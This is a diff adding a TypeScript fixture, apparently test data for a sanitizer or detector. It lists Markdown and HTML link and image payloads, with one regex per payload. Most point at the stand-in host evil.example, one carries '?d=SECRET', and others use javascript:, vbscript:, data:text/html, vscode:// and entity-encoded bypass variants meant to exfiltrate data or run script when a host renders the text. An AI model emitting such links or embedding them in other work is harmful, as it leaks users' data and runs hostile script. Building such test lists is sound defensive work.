@@ -1,0 +1,46 @@
+import type { PayloadRow } from "./payload.ts";
+
+const OPEN = /\]\((?:\s|<)*(?:https?|\/\/|\\)/i;
+
+/** Addresses that a host would load or offer to click, with what they carry off. */
+export const LINK_PAYLOADS: readonly PayloadRow[] = [
+  ["Markdown image", "![logo](https://evil.example/p.png?d=SECRET)", OPEN],
+  ["Markdown image with brackets in its label", "![a[b]c](https://evil.example/p.png)", OPEN],
+  ["Markdown image with a title", '![a](https://evil.example/p.png "hi")', OPEN],
+  ["Markdown image in angle brackets", "![a](<https://evil.example/p.png>)", OPEN],
+  ["Markdown image behind a space", "![a]( https://evil.example/p.png )", OPEN],
+  ["Markdown image behind a line break", "![a](\nhttps://evil.example/p.png)", OPEN],
+  ["Markdown image by reference", "![a][r]\n\n[r]: https://evil.example/p.png", /\[r\]: ?https/],
+  ["Markdown image by reference in angle brackets", "![a][r]\n\n[r]: <https://evil.example/p.png>", /\[r\]: ?<https/],
+  ["Markdown image by reference over lines", "![r]\n\n[r]:\nhttps://evil.example/p.png", /\[r\]:\s*https/],
+  ["Markdown image without scheme", "![a](//evil.example/p.png)", OPEN],
+  ["Markdown image with backslashes", "![a](\\\\evil.example/p.png)", OPEN],
+  ["Markdown image with an escaped colon", "![a](https\\://evil.example/p.png)", OPEN],
+  ["Markdown image with entities in its address", "![a](&#104;ttps://evil.example/p.png)", /\]\((?:&#104;|h)ttps/],
+  [
+    "Markdown image with entities in its brackets",
+    "!&lsqb;a&rsqb;&lpar;https://evil.example/p.png)",
+    /(?:\]|&rsqb;)(?:\(|&lpar;)https/,
+  ],
+  ["Markdown image in a link", "[![a](https://evil.example/p.png)](https://evil.example)", OPEN],
+  ["Markdown image from the path of the page", "![a](/api/v1/me)", /\]\(\/api/],
+  ["Markdown link that says another address", "[https://bank.example](https://evil.example)", OPEN],
+  ["Markdown link with another scheme", "[call](tel:+15550100) [mail](mailto:a@evil.example)", /\]\((?:tel|mailto):/],
+  ["link to an editor", "[open](vscode://evil.example/install)", /\]\(vscode:/],
+  ["script link", "[open](javascript:alert(1))", /javascript:/],
+  ["script link in capitals", "[open](JaVaScRiPt:alert(1))", /javascript:/i],
+  ["script link with an entity", "[open](javascript&colon;alert(1))", /javascript(?::|&colon;)/i],
+  ["Visual Basic link", "[open](vbscript:msgbox)", /vbscript:/],
+  ["data link", "[open](data:text/html;base64,PHNjcmlwdD4=)", /data:text/],
+  ["autolink", "<https://evil.example/?q=1>", /<https/],
+  ["script autolink", "<javascript:alert(1)>", /<javascript|javascript:/],
+  ["HTML image", '<img src="https://evil.example/p.png">', /<img/i],
+  ["HTML image with a slash", "<img/src=https://evil.example/p.png>", /<img/i],
+  ["HTML image in entities", "&lt;img src=https://evil.example/p.png&gt;", /(?:<|&lt;)img/i],
+  ["HTML image in entities of entities", "&amp;lt;img src=https://evil.example&amp;gt;", /(?:<|lt;)img/i],
+  ["HTML link", '<a href="https://evil.example">here</a>', /<a href/i],
+  ["HTML link without quotes", "<A HREF=https://evil.example>here</A>", /<a href/i],
+  ["picture with sources", "<picture><source srcset=//evil.example/p.png></picture>", /<source/i],
+  ["background of a cell", "<td background=//evil.example/p.png>", /<td b/i],
+  ["poster of a video", "<video poster=//evil.example/p.png>", /<video/i],
+];
